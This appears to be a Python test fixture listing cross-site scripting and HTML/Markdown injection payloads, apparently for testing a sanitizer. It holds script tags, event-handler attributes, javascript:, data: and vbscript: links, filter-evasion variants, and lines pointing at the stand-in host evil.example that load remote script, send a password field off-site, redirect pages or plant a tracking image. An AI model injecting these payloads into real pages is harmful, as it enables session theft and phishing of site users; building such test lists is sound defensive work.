"""What people type to have their script run in the browsers of others."""

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/"><input name=password></form>
<style>body { display: none }</style>
<p style="position: fixed; inset: 0">x</p>
<p id="content" class="btn" onclick="alert(1)">x</p>
<a href="javascript:alert(1)">x</a>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<video><source onerror="alert(1)"></video>
<details open ontoggle=alert(1)>x</details>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](https://a.example/" onmouseover="alert(1))
<javascript:alert(1)>
![x](https://evil.example/spy.png)
![x" onerror="alert(1)](x)
`<script>alert(1)</script>`
""".strip().splitlines()
